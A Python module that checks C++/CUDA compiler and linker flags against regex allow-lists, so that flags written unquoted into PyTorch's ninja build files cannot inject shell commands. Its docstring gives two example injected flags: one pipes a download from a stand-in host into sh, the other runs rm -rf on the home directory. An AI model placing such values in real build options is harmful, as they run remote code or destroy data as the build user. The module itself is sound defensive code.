"""Which compiler and linker flags a C++/CUDA solution may ask for.

PyTorch's extension builder writes `extra_cflags` and friends into a ninja file unquoted, and
ninja runs every command through `sh -c`, so a flag such as `` -DX=`curl evil|sh` `` or
`-O3;rm -rf ~` would run shell commands at build time, as the driver's user, before any sandbox
of the candidate exists. Quoting would have to match ninja's and the shell's rules exactly; an
allow-list is simpler to get right: every flag must be one of the forms below and be made only of
characters no shell gives a meaning to. Anything else is refused before the build starts, with
the flag named.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

# Characters with no meaning to sh or ninja: no space, quote, $, `, ;, |, &, <, >, (, ), \, *, ?.
_SAFE = re.compile(r"[A-Za-z0-9_=.,+:/%-]+")
_MACRO = r"-D[A-Za-z_][A-Za-z0-9_]*(=[A-Za-z0-9_.+-]*)?|-U[A-Za-z_][A-Za-z0-9_]*"
_RELATIVE_DIR = r"(?!/)(?!.*\.\.)[A-Za-z0-9_./-]+"
_ARCH = r"(compute|sm|lto)_[0-9]+[af]?"

# One full-match pattern per family of flags, for the host compiler and for nvcc.
_COMMON = (
    r"-O[0-3s]?|-Ofast|-g[0-3]?|-std=(c|gnu)\+\+(11|14|17|20|23)|--std=c\+\+(11|14|17|20)",
    _MACRO,
    r"-I" + _RELATIVE_DIR,
    r"-W[A-Za-z0-9_=-]*|-w",
    # -ffast-math, -fopenmp, -fno-strict-aliasing; never a plugin, a dump or a profile file
    r"-f(?!plugin|dump|profile|record|debug-prefix)(no-)?[a-z0-9-]+(=[a-z0-9_-]+)?",
    r"-m(arch|tune)=[a-z0-9_-]+|-mavx[0-9a-z]*|-mfma|-mf16c",
    r"-DNDEBUG|-pthread|-fPIC",
)
_NVCC = (
    r"-{1,2}use_fast_math|--?lineinfo|-G|--?expt-(relaxed-constexpr|extended-lambda)",
    r"-{1,2}(ftz|prec-div|prec-sqrt|fmad)=(true|false)",
    r"-{1,2}maxrregcount=[0-9]+|--?(res-usage|resource-usage)|-v",
    r"-{1,2}(gpu-architecture|arch)=" + _ARCH,
    r"-{1,2}(generate-code|gencode)=arch=" + _ARCH + r",code=(\[?" + _ARCH + r"(," + _ARCH
    + r")*\]?)",
    r"-Xptxas=[A-Za-z0-9_=,.-]+|--ptxas-options=[A-Za-z0-9_=,.-]+",
    r"--?(extra-device-vectorization|restrict|keep-device-functions|split-compile=[0-9]+)",
    r"--?diag-suppress=[0-9,]+|--?threads=[0-9]+|-t[0-9]+",
    r"-U__CUDA_NO_[A-Z0-9_]+",
)
_LINKER = (r"-l[A-Za-z0-9_.+-]+", r"-Wl,(--as-needed|--no-as-needed|-O[0-3])",
           r"-fopenmp|-pthread")  # link the OpenMP / thread runtime

_HOST = re.compile("|".join(f"(?:{p})" for p in _COMMON))
_DEVICE = re.compile("|".join(f"(?:{p})" for p in _COMMON + _NVCC))
_LINK = re.compile("|".join(f"(?:{p})" for p in _LINKER))


@dataclass(frozen=True)
class FlagRefused:
    field: str  # cflags, cuda_cflags or ld_flags
    flag: str

    def message(self) -> str:
        return (f"compile flag {self.flag!r} in spec.compile_options.{self.field} is not allowed "
                f"(only optimisation, warning, standard, macro, architecture and -l library "
                f"flags made of [A-Za-z0-9_=.,+:/%-] are)")


def refused_flag(cflags: tuple[str, ...], cuda_cflags: tuple[str, ...],
                 ld_flags: tuple[str, ...]) -> FlagRefused | None:
    """The first flag that is not allowed, or None when every flag is."""
    for field, flags, pattern in (("cflags", cflags, _HOST), ("cuda_cflags", cuda_cflags, _DEVICE),
                                  ("ld_flags", ld_flags, _LINK)):
        for flag in flags:
            if not _allowed(flag, pattern):
                return FlagRefused(field, flag)
    return None


def _allowed(flag: str, pattern: re.Pattern[str]) -> bool:
    if not _SAFE.fullmatch(flag):
        return False
    if flag.startswith("-Xcompiler=") and pattern is _DEVICE:
        parts = flag.removeprefix("-Xcompiler=").split(",")
        return all(_HOST.fullmatch(part) for part in parts)
    return pattern.fullmatch(flag) is not None
